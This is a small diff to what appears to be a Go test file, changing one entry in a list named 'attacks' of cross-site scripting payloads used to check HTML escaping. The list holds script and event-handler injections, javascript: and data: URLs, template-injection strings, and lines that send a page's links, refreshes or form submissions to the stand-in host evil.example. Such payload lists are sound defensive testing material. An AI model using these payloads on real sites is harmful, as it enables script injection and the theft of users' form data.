@@ -20,7 +20,7 @@ var attacks = []string{
 	`<script>alert(1)</script>`, `</script><script>alert(1)</script>`, `"><svg onload=alert(1)>`, `' autofocus onfocus=alert(1) x='`,
 	`<!--`, `--><img src=x onerror=alert(1)>`, `</textarea><img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`,
 	`javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `</template><script>alert(1)</script>`, `</style><script>`,
-	"\u2028alert(1)//", "\u2029", `\u003cscript\u003e`, `{{.}}`, `{{template "sheet"}}`, `${alert(1)}`, `&lt;script&gt;`, `<math><mtext><script>alert(1)</script>`,
+	"\u2028alert(1)//", "\u2029x", `\u003cscript\u003e`, `{{.}}`, `{{template "sheet"}}`, `${alert(1)}`, `&lt;script&gt;`, `<math><mtext><script>alert(1)</script>`,
 	`<a href="javascript:alert(1)">`, "`onclick=alert(1)", `]]><script>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<base href=//evil.example/>`,
 	`<meta http-equiv=refresh content=0;url=//evil.example>`, `<form action=//evil.example><input name=x>`, `"style="x:expression(1)"`,
 }
